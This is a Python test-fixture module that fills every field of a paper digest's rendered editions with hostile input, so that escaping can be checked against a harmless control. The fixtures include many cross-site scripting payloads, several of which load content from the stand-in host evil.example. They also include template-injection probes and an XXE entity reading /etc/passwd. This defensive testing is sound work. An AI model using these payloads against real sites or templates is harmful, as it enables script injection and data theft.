"""Texts that mean harm, and editions in which they stand in every place that comes from outside.

What would run calls ``alert``, or asks for something of evil.example: a browser hears both.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import replace

from digest.model import Author, Confidence, Edition, EditionPart, Evidence, PaperKey, Reason
from digest.render.branding import Branding
from tests.render.samples import SITE, make_edition, make_item

EVIL = "https://evil.example/x"
_ELEMENTS = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x\x0cONERROR=alert(1)>",
    "<img/&#09; src=` onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href={EVIL} /></svg>#x'>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.alert(1)</script>'>",
    f"<object data={EVIL}><embed src={EVIL}>",
    "<body onload=alert(1)><details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><button popovertarget=x>y</button>",
    f"<style>@import '{EVIL}';*{{background:url({EVIL})}}</style>",
    f"<link rel=stylesheet href={EVIL}><link rel=prefetch href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}><form action={EVIL}><input name=x></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><slot name=x>",
    "<b><noscript><!-- </noscript><img src=x onerror=alert(1) -->",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a><area href=javascript:alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)
_WAYS_OUT = (
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onload=alert(1) `",
    " onfocus=alert(1) autofocus tabindex=1 x=",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title></style></textarea></noscript></template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![endif]--><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "</p></div></td></table></main></body></html><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "*/}</style><svg onload=alert(1)>",
    "\x02<img src=x onerror=alert(1)>\x03",  # our own marks while words are highlighted
    "x\r\n\r\n<script>alert(1)</script>",
)
_CODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript\\x3ealert(1)",
    "＜script＞alert(1)＜/script＞",  # NFKC makes real ones of these
    "<\u200bscript>alert(1)</\u200bscript>",
    "<\x00script>alert(1)</\x00script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\textless script\\textgreater alert(1)\\textless/script\\textgreater",
    "$\\lt$script$\\gt$alert(1)$\\lt$/script$\\gt$ $<$img src=x onerror=alert(1)$>$",
    "\\char60 img src=x onerror=alert(1)\\char62 \\symbol{60}svg/onload=alert(1)\\symbol{62}",
    "\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)} $\\href{javascript:alert(1)}{y}$",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [y]: javascript:alert(1)",
    f"![x]({EVIL}) <img src={EVIL}> [z]( data:text/html,<script>alert(1)</script> )",
    "*_~`|#+-=[]()!<>\\&;:{{}}$%^ \n# heading\n- list\n> quote\n```\ncode",
)
_TEMPLATES = (
    "{{ 7*7 }}{% for x in range(10**9) %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{# comment #}",
    "{% include 'mail/edition.html' %}{% raw %}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[7*7]] %(x)s {0} {x!r} %s %n $x",
    "{{constructor.constructor('alert(1)')()}} <div v-html=\"'<script>'\" x-init=alert(1) ng-init=alert(1)>",
)
_SIGNS = (
    "\u202egpj.exe\u2066\u2067\u2068\u2069\u202a\u202b\u202d\u202c turned",
    "\x00\x01\x07\x08\x0b\x0c\x0e\x1b[31m\x1b]0;x\x07\x7f\x80\x85\x9b\u2028\u2029\ufeff\ufffe\uffff bells",
    "Z" + "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 60 + "lgo",
    "\ud800 half \udfff",
    "👩‍👩‍👧‍👦" * 200,
    "W" * 10_000,
    "漢" * 3_000,
    "ﷺ" * 200 + "؀12",
    "\u200b" * 500 + "\u00ad" * 500 + "\u2060\u180e\u3164",
    "מאמר " * 40 + "العربية " * 40,
)
URLS = (
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/' onfocus='alert(1)' autofocus='",
    "https://evil.example/<script>alert(1)</script>",
    "https://evil.example/ onfocus=alert(1) autofocus",
    "https://user:password@evil.example/",
    "https://evil.example\\@good.example/",
    "//evil.example/x",
    "file:///etc/passwd",
    "https://[::1",
    "https://evil.example/" + "a" * 5_000,
    "https://evil.example/\u202egpj",
)
TEXTS = (*_ELEMENTS, *_WAYS_OUT, *_CODED, *_TEMPLATES, *_SIGNS)
HARMLESS = "harmless words about nothing at all"


def make_harmful_editions(number: int = 12) -> Iterator[tuple[Edition, Branding]]:
    """Editions with all texts and addresses, so many of them in each."""
    for begin in range(0, len(TEXTS), number):
        yield make_edition_of_texts(TEXTS[begin : begin + number])


def make_harmless_edition(number: int = 12) -> tuple[Edition, Branding]:
    """The same edition, by people who mean no harm."""
    return make_edition_of_texts([HARMLESS] * number, ["https://good.example/x"])


def make_edition_of_texts(texts: Sequence[str], urls: Sequence[str] = URLS) -> tuple[Edition, Branding]:
    """An edition with a text of these in all places of each of its papers, the first one also in its title."""
    items = []
    for number, text in enumerate(texts, start=1):
        url = urls[number % len(urls)]
        follow = Reason(
            follow=text,
            confidence=Confidence.SURELY,
            evidence=(
                Evidence(field="title", words=(text,)),
                Evidence(field="abstract", words=(text[:40], "alert")),
            ),
        )
        item = make_item(
            number,
            (EditionPart.SURELY, EditionPart.MAYBE, EditionPart.PICKED, EditionPart.VERSIONS)[
                number * 4 // (len(texts) + 1)
            ],
            [follow],
            key=PaperKey(f"url:{text[:200]}{number}"),
            title=text,
            abstract=f"{text}. And {text}",
            authors=tuple(Author(name=f"{text}{place}", affiliations=(text,)) for place in range(2)),
            categories=(text, "cs.DC"),
            url=url,
            pdf_url=url,
            doi=text,
            journal_ref=text,
            comment=text,
            license_url=url,
            code_urls=(url,),
            project_urls=(url,),
            organizations=(text,),
        )
        items.append(item)
    title = texts[0]
    masthead = replace(SITE, title=title, source_titles={"arxiv": title})
    edition = make_edition(*items, title=title, overflow=tuple(items[:3]), dropped=3, excluded=2)
    return edition, masthead
